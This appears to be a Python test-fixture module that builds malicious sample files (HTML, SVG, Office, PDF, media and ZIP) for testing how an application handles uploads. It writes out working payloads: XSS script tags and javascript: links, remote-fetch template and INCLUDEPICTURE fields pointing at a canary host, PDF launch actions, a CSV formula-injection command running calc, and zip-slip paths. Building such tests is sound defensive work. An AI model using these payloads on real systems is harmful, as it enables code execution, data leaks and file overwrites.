# ruff: noqa: E501, UP031 - one way of doing harm a line, as it would be sent
"""Documents, pictures and sound with scripts, addresses and markup where a page might show them."""

from __future__ import annotations

from collections.abc import Mapping

import pikepdf

from tests.samples import active, packages
from tests.samples.kinds import sample

from .canary import CANARY as C
from .canary import RUN as X

TAG = f'"><script>{X}</script>'
_SAFE = TAG.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
SVG = (
    f'{_XML}<svg xmlns="http://www.w3.org/2000/svg" onload="{X}"><script>{X}</script>'
    f'<image href="{C}/x.png"/></svg>'
).encode()
PAGE = (
    f'<!doctype html><meta http-equiv="refresh" content="0;url={C}/"><script>{X}</script>'
    f'<img src="{C}/x.png" onerror="{X}">'
).encode()


def all_files() -> Mapping[str, tuple[str, bytes]]:
    """Name → (file name, bytes)."""
    return {
        "html": ("trang.html", PAGE),
        "html-as-txt": ("trang.txt", PAGE),
        "html-as-doc": ("trang.doc", PAGE),
        "html-as-jpg": ("anh.jpg", PAGE),
        "html-as-pdf": ("van-ban.pdf", PAGE),
        "svg": ("hinh.svg", SVG),
        "svg-as-png": ("hinh.png", SVG),
        "svg-in-zip": ("hinh.zip", packages.zipped({"hinh.svg": SVG, "a/trang.html": PAGE})),
        "svgz": ("hinh.svgz", SVG),
        "xhtml": ("trang.xhtml", _XML.encode() + PAGE),
        "mht": ("trang.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE),
        "hta": ("trang.hta", PAGE),
        "url": ("noi.url", f"[InternetShortcut]\nURL=javascript:{X}\nIconFile={C}/i.ico\n".encode()),
        "eml": ("thu.eml", b"Subject: x\r\nContent-Type: text/html\r\n\r\n" + PAGE),
        "txt": ("van-ban.txt", f"QUYẾT ĐỊNH\n{TAG}\nĐiều 1. {TAG}\n".encode()),
        "csv": ("bang.csv", b"=cmd|'/C calc'!A1,@x\n"),
        "rtf": ("van-ban.rtf", _rtf()),
        "docx-text": ("van-ban.docx", packages.docx(_paragraph(_SAFE))),
        "docx-link": ("noi.docx", _docx_link(f"javascript:{X}")),
        "docx-link-data": ("noi2.docx", _docx_link("data:text/html,&lt;script&gt;1&lt;/script&gt;")),
        "docx-template": ("mau.docx", active.docx_that_fetches("attachedTemplate", f"{C}/x.dotm")),
        "docx-image": ("anh.docx", active.docx_that_fetches("image", f"{C}/x.png")),
        "docx-frame": ("khung.docx", active.docx_that_fetches("frame", f"{C}/x.html")),
        "docx-field": ("truong.docx", active.docx_with_field(f' INCLUDEPICTURE "{C}/x.png" ')),
        "docx-hyperlink-field": ("truong2.docx", active.docx_with_field(f' HYPERLINK "javascript:{X}" ')),
        "docx-meta": ("ten2.docx", _docx_meta()),
        "odt-text": ("van-ban.odt", packages.odt(f"<text:p>{_SAFE}</text:p>")),
        "odt-link": ("noi.odt", packages.odt(_odt_link(f"javascript:{X}"))),
        "odt-image": ("anh.odt", packages.odt(_odt_image())),
        "odt-script": ("ma.odt", active.odt({"Scripts/javascript/x.js": X.encode()})),
        "pdf-js": ("ma.pdf", active.pdf(active.opens_with(active.script()))),
        "pdf-uri": ("noi.pdf", active.pdf(active.button(_uri(f"javascript:{X}")))),
        "pdf-uri-open": ("mo.pdf", active.pdf(active.opens_with(_uri(f"{C}/x")))),
        "pdf-launch": ("chay.pdf", active.pdf(active.opens_with(active.launch()))),
        "pdf-meta": ("ten.pdf", active.pdf(_pdf_meta)),
        "pdf-file": ("kem.pdf", active.pdf_with_file(f"{TAG}.html".replace("/", "_"), PAGE)),
        "mp3-tags": ("am.mp3", _mp3()),
        "jpg-comment": ("anh2.jpg", _jpeg_comment()),
        "png-text": ("anh3.png", _png_text()),
        "zip-slip": ("d.zip", packages.zipped({"../../x.txt": TAG, "/etc/x.txt": TAG, "a\\..\\b.txt": TAG})),
        "zip-nested": ("e.zip", packages.zipped({f"<b>{X}.zip": packages.zipped({f"{X}.txt": TAG})})),
    }  # fmt: skip


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>QUYẾT ĐỊNH</w:t></w:r></w:p><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _docx_link(target: str) -> bytes:
    return active.docx_that_fetches("hyperlink", target)


def _docx_meta() -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
    core = (
        f'{_XML}<cp:coreProperties xmlns:cp="{space}" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{_SAFE}</dc:title><dc:creator>{_SAFE}</dc:creator></cp:coreProperties>"
    )
    return packages.docx(_paragraph("Điều 1."), more={"docProps/core.xml": core})


def _odt_link(target: str) -> str:
    return (
        '<text:p><text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" '
        f'xlink:href="{target}">Bấm vào đây</text:a></text:p>'
    )


def _odt_image() -> str:
    return (
        '<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
        f'<draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{C}/x.png"/>'
        "</draw:frame></text:p>"
    )


def _rtf() -> bytes:
    link = '{\\field{\\*\\fldinst HYPERLINK "javascript:%s"}{\\fldrslt x}}' % X
    picture = '{\\field{\\*\\fldinst INCLUDEPICTURE "%s/x.png"}}' % C
    return ("{\\rtf1\\ansi{\\info{\\title %s}}%s%s\\par}" % (TAG, link, picture)).encode()


def _uri(address: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)


def _pdf_meta(file: pikepdf.Pdf) -> None:
    for key in ("/Title", "/Author", "/Subject", "/Keywords"):
        file.docinfo[key] = TAG


def _frame(name: bytes, text: str) -> bytes:
    body = b"\x03" + text.encode()
    return name + len(body).to_bytes(4, "big") + b"\0\0" + body


def _mp3() -> bytes:
    frames = b"".join(_frame(name, TAG) for name in (b"TIT2", b"TPE1", b"TALB", b"WOAR"))
    size = len(frames)
    header = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + header + frames + sample("mp3")


def _jpeg_comment() -> bytes:
    data = sample("jpg")
    text = TAG.encode()
    return data[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + data[2:]


def _png_text() -> bytes:
    import zlib

    data = sample("png")
    body = b"tEXt" + b"Title\0" + TAG.encode()
    chunk = (len(body) - 4).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    return data[:33] + chunk + data[33:]
